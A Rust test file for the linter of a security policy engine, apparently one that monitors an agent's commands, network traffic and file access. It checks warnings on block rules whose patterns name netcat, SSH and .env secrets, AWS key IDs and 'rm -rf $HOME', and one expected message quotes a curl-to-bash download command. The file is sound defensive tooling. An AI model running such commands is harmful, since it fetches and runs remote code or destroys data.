//! Warnings about patterns that mean something else than they seem to, and about actions that deny
//! nothing: each is correct, and sound rules get none.
#![allow(clippy::unwrap_used, clippy::indexing_slicing)]

use sentry_core::engine::Engine;
use sentry_core::lint::{grave, lint};
use sentry_core::policy::check;
use sentry_text::diagnostic::Diagnostic;

fn engine(source: &str) -> Engine {
    Engine::new(check(source, &|_| None).policy.unwrap()).unwrap()
}

fn rule(on: &str, pattern: &str, rest: &str) -> String {
    format!(
        "rule \"site\" {{ on = {on} match = `{pattern}` severity = \"low\" reason = \"w\" {rest} }}\n"
    )
}

fn blocking(on: &str, pattern: &str) -> String {
    rule(&format!("\"{on}\""), pattern, "verdict = \"block\"")
}

/// The warnings, without that about an `allow` by its pattern alone.
fn warnings(source: &str) -> Vec<Diagnostic> {
    let mut found = lint(&engine(source));
    found.retain(|found| found.code.as_str() != "lint/allow-by-match");
    found
}

fn codes(source: &str) -> Vec<&'static str> {
    let found = warnings(source);
    found.iter().map(|found| found.code.as_str()).collect()
}

/// The message and the help of the only warning.
fn only(source: &str) -> (&'static str, String, String) {
    let mut found = warnings(source);
    assert_eq!(found.len(), 1, "{source}: {found:?}");
    let found = found.remove(0);
    (found.code.as_str(), found.message, found.help.unwrap())
}

#[test]
fn a_short_pattern_is_found_with_what_else_it_matches() {
    let (code, message, help) = only(&blocking("ToolExec", "nc"));
    assert_eq!(code, "lint/short-pattern");
    assert_eq!(
        message,
        "the pattern of rule `site` is short and without boundaries, so it also matches inside longer words"
    );
    assert_eq!(
        help,
        "it also matches `git branch`, `cargo bench`, `npm run bench`; write `\\b` before and after a word"
    );
    let short = [
        ("ToolExec", "rm"),
        ("ToolExec", "(?i)NC"),
        ("ToolExec", "n[ck]"),
        ("ToolExec", "netcat|nc|ncat"),
        ("ToolExec", "rm "),
        ("ToolExec", "zqx"),
        ("Egress", ":22"),
        ("Egress", "10\\."),
        ("Dns", "\\.ru"),
        ("Dns", "oast"),
        ("FileAccess", "\\.env"),
        ("SslContent", "key"),
    ];
    for (on, pattern) in short {
        assert_eq!(
            codes(&blocking(on, pattern)),
            ["lint/short-pattern"],
            "{pattern}"
        );
    }
    let others = [
        ("ToolExec", "\\bnc\\b"),
        ("ToolExec", "(^|[\\s/])nc(\\s|$)"),
        ("ToolExec", "^nc "),
        ("ToolExec", "netcat"),
        ("SecurityAction", "bind"),
        ("Egress", ":22$"),
        ("Dns", "\\.ru\\.?$"),
        ("FileAccess", "/\\.ssh/"),
        ("FileAccess", "\\.key$"),
        ("SslContent", "AKIA[0-9A-Z]{16}"),
    ];
    for (on, pattern) in others {
        assert!(codes(&blocking(on, pattern)).is_empty(), "{pattern}");
    }
}

#[test]
fn a_pattern_that_matches_the_empty_text_is_found_and_any_text_is_on_purpose() {
    for pattern in ["", "x*", "evil|", "^", "$", "(evil)?"] {
        let found = codes(&blocking("Dns", pattern));
        assert_eq!(found, ["lint/matches-everything"], "{pattern:?}");
    }
    for pattern in [".*", "^.*$", "(?s)^.+$", "(.*)", "^$"] {
        let found = codes(&blocking("FileDelete", pattern));
        assert!(!found.contains(&"lint/matches-everything"), "{pattern:?}");
    }
    assert!(codes(&blocking("ToolExec", ".*")).is_empty());
}

#[test]
fn a_rule_that_blocks_or_escalates_everyday_commands_is_found() {
    let (code, message, help) = only(&blocking("ToolExec", "\\bgit\\b"));
    assert_eq!(code, "lint/everyday-command");
    assert_eq!(message, "`block` rule `site` matches everyday commands");
    assert_eq!(
        help,
        "for example `git log`, `git tag`, `git diff`; narrow the pattern, for example with `^` and `\\b`"
    );
    let escalating = rule("\"ToolExec\"", "^npm ", "verdict = \"escalate\"");
    assert_eq!(codes(&escalating), ["lint/everyday-command"]);
    for pattern in ["^npm publish", "\\bgit push .*--force", "^sudo ", "^curl "] {
        assert!(
            codes(&blocking("ToolExec", pattern)).is_empty(),
            "{pattern}"
        );
    }
}

#[test]
fn an_allow_before_a_rule_takes_everyday_commands_out_of_it() {
    let allow = "rule \"own\" { on = \"ToolExec\" match = `^git [a-z]+` verdict = \"allow\" severity = \"low\" reason = \"w\" overrides = [\"pipe-to-shell\", \"reverse-shell\", \"destructive-rm\", \"disk-overwrite\"] }\n";
    let source = allow.to_owned() + &blocking("ToolExec", "^git ");
    assert!(codes(&source).is_empty());
}

#[test]
fn a_rule_that_can_never_match_is_found() {
    let cases = [
        ("ToolExec", "rm -rf $HOME"),
        ("SecurityAction", "^bind$"),
        ("Egress", "^10\\.0\\.0\\.1$"),
        ("Egress", ":65536$"),
        ("Egress", "^evil\\.example:99999$"),
        ("Egress", "^\\[::1\\]:70000$"),
        ("Egress", "10\\.0\\.0\\.0/8"),
        ("Egress", "https://evil\\.example"),
        ("Dns", "https://evil\\.example"),
        ("Dns", "^/etc/"),
        ("Dns", "evil\\.example:53"),
        ("Dns", "evil\\\\.example"),
        ("FileAccess", "^~/\\.ssh/"),
        ("FileDelete", "\\*\\.pem$"),
        ("LlmActivations", "weapons"),
    ];
    for (on, pattern) in cases {
        let found = codes(&blocking(on, pattern));
        assert_eq!(found, ["lint/never-matches"], "{on} {pattern}");
    }
}

#[test]
fn the_warning_about_a_rule_that_never_matches_says_how_its_subjects_look() {
    let (_, message, help) = only(&blocking("Egress", "^10\\.0\\.0\\.1$"));
    assert_eq!(
        message,
        "the pattern of rule `site` can match no event of kind `Egress`"
    );
    assert_eq!(
        help,
        "the subject is `<peer>:<port>`, such as `192.0.2.1:443`: end a peer with `:`, and write addresses, not ranges or URLs"
    );
    let (_, message, help) = only(&blocking("FileAccess", "^$HOME/"));
    assert_eq!(message, "the pattern of rule `site` matches no text at all");
    assert!(help.contains("write `\\$` for a dollar sign"), "{help}");
    let (_, _, help) = only(&blocking("Dns", "evil\\\\.example"));
    assert!(help.contains("between backticks `\\.` is a dot"), "{help}");
}

#[test]
fn a_rule_on_several_kinds_names_those_on_which_it_never_matches() {
    let on_two = rule(
        "[\"Dns\", \"Egress\"]",
        "evil\\.example$",
        "verdict = \"block\"",
    );
    let (code, message, _) = only(&on_two);
    assert_eq!(code, "lint/never-matches");
    assert!(message.ends_with("of kind `Egress`"), "{message}");
    let everywhere = rule("\"*\"", "evil\\.example$", "verdict = \"block\"");
    assert!(codes(&everywhere).is_empty());
    let nowhere = rule("\"*\"", "$HOME", "verdict = \"block\"");
    assert_eq!(codes(&nowhere), ["lint/never-matches"]);
}

#[test]
fn a_pattern_that_looks_like_a_glob_is_found() {
    for pattern in ["/etc/**", "/home/*/\\.ssh/", "^/srv/(app|data)/*$"] {
        let found = codes(&blocking("FileAccess", pattern));
        assert_eq!(found, ["lint/looks-like-glob"], "{pattern}");
    }
    assert_eq!(
        codes(&blocking("ToolExec", "^rm -rf /*")),
        ["lint/looks-like-glob"]
    );
    for pattern in ["/etc/.*", "^/+etc/+shadow", "(^|/)\\.ssh/?$"] {
        assert!(
            codes(&blocking("FileAccess", pattern)).is_empty(),
            "{pattern}"
        );
    }
}

#[test]
fn an_action_without_a_deny_file_is_found_once_for_its_kind() {
    let deny = "deny { exec = \"e.txt\" file = \"f.txt\" }\n";
    let acting = rule(
        "\"ToolExec\"",
        "\\bnetcat\\b",
        "verdict = \"block\" action = \"deny-exec\"",
    );
    assert!(codes(&(deny.to_owned() + &acting)).is_empty());
    let (code, message, help) = only(&acting);
    assert_eq!(code, "lint/action-denies-nothing");
    assert_eq!(
        message,
        "the `deny-exec` of rule `site` denies nothing: the policy has no deny-file for it"
    );
    assert_eq!(
        help,
        "add `deny { exec = \"exec-deny.txt\" }`, or name a file with `run --exec-deny`"
    );
    let two = acting.clone() + &acting.replace("site", "two").replace("netcat", "ncat");
    let (_, message, _) = only(&two);
    assert!(
        message.contains("rule `site` and 1 more rule denies"),
        "{message}"
    );
}

#[test]
fn an_action_that_never_has_a_target_is_found() {
    let deny = "deny { exec = \"e.txt\" file = \"f.txt\" egress = \"g.txt\" }\n";
    let codes = |on: &str, pattern: &str, action: &str, verdict: &str| {
        let on = format!("\"{on}\"");
        let rest = format!("verdict = \"{verdict}\" action = \"{action}\"");
        codes(&(deny.to_owned() + &rule(&on, pattern, &rest)))
    };
    let never = ["lint/action-denies-nothing"];
    assert_eq!(codes("FileAccess", "^\\.env$", "deny-file", "block"), never);
    assert_eq!(
        codes("Egress", "^\\[?2001:db8::", "deny-egress", "block"),
        never
    );
    let never_matches = codes("FileAccess", "^~/\\.ssh/", "deny-file", "block");
    assert_eq!(never_matches, ["lint/never-matches"]);
    assert_eq!(codes("ToolExec", "^ls$", "deny-exec", "allow"), never);
    let none: [&str; 0] = [];
    assert_eq!(codes("ToolExec", "^ncat\\b", "deny-exec", "block"), none);
    assert_eq!(
        codes("ToolExec", "^(/\\S*/)?ncat\\b", "deny-exec", "block"),
        none
    );
    assert_eq!(
        codes("FileAccess", "(^|/)\\.env$", "deny-file", "block"),
        none
    );
    assert_eq!(
        codes("Egress", "^203\\.0\\.113\\.7:", "deny-egress", "block"),
        none
    );
}

#[test]
fn a_block_without_an_action_that_drops_the_deny_of_a_built_in_rule_is_found() {
    let deny = "deny { exec = \"e.txt\" egress = \"g.txt\" }\n";
    let block = blocking("ToolExec", "\\bcurl\\b.*\\|");
    let (code, message, help) = only(&(deny.to_owned() + &block));
    assert_eq!(code, "lint/drops-builtin-action");
    assert_eq!(
        message,
        "`block` rule `site` has no action, so what `pipe-to-shell` would deny is not denied"
    );
    assert_eq!(
        help,
        "for example `curl http://192.0.2.1/x.sh | bash`; narrow the pattern, or add `action = \"deny-exec\"`"
    );
    // Without a deny-file the built-in rule denies nothing either.
    assert!(codes(&block).is_empty());
    let acting = rule(
        "\"ToolExec\"",
        "\\bcurl\\b.*\\|",
        "verdict = \"block\" action = \"deny-exec\"",
    );
    assert!(codes(&(deny.to_owned() + &acting)).is_empty());
    assert!(codes(&(deny.to_owned() + &blocking("ToolExec", "\\bnetcat\\b"))).is_empty());
}

#[test]
fn two_rules_of_one_name_are_a_grave_warning() {
    let twice = blocking("Dns", "\\.ru$") + &blocking("Dns", "\\.su$");
    let found = grave(&engine(&twice));
    assert_eq!(
        found,
        [
            "two rules are named `site`: give each rule its own name, so that a decision shows which one \
             fired"
        ]
    );
}

#[test]
fn the_grave_warnings_are_of_rules_that_never_match_match_everything_or_block_everyday_work() {
    let grave_of = |source: &str| grave(&engine(source));
    assert!(grave_of("").is_empty());
    assert_eq!(grave_of(&blocking("ToolExec", "nc")).len(), 1);
    assert_eq!(grave_of(&blocking("ToolExec", "\\bgit\\b")).len(), 1);
    assert_eq!(grave_of(&blocking("Dns", "")).len(), 1);
    assert_eq!(grave_of(&blocking("SecurityAction", "^bind$")).len(), 1);
    assert!(grave_of(&blocking("Dns", "\\.ru")).is_empty());
    assert!(grave_of(&rule("\"ToolExec\"", "nc", "verdict = \"escalate\"")).is_empty());
}

/// The built-in rules as if a site had written them: they have no warning about their patterns.
#[test]
fn the_built_in_rules_get_no_warning_about_their_patterns() {
    let source = include_str!("../src/policy/builtin.acl");
    let of_copies = ["lint/duplicate-name", "lint/unreachable-rule"];
    let deny = "deny { exec = \"e.txt\" file = \"f.txt\" egress = \"g.txt\" }\n";
    let mut found = warnings(&(deny.to_owned() + source));
    found.retain(|found| !of_copies.contains(&found.code.as_str()));
    assert!(found.is_empty(), "{found:?}");
    let grave = grave(&engine(source));
    assert!(
        grave
            .iter()
            .all(|message| message.starts_with("a built-in rule is named")),
        "{grave:?}"
    );
}
